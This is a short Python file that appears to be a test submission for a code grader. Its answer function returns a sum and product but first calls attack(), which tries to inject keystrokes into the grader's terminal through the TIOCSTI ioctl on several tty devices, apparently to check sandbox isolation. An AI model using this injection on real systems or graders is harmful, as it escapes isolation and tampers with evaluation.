# Tries: to type into the terminal of the user who runs the grader. May get: AC.
import fcntl
import os
import termios


def attack():
    for path in (None, "/dev/tty", "/dev/console", "/dev/tty1", "/dev/pts/0"):
        for direction in (0, 1, 2) if path is None else (None,):
            try:
                at = direction if path is None else os.open(path, os.O_RDWR | os.O_NOCTTY)
                fcntl.ioctl(at, termios.TIOCSTI, b"x")
            except OSError:
                continue
            return f"typed into {path}"


def tiny(a, b):
    try:
        got = attack()
    except OSError:
        got = None
    if got:
        print("ESCAPED", got, flush=True)
    return [a + b, a * b]
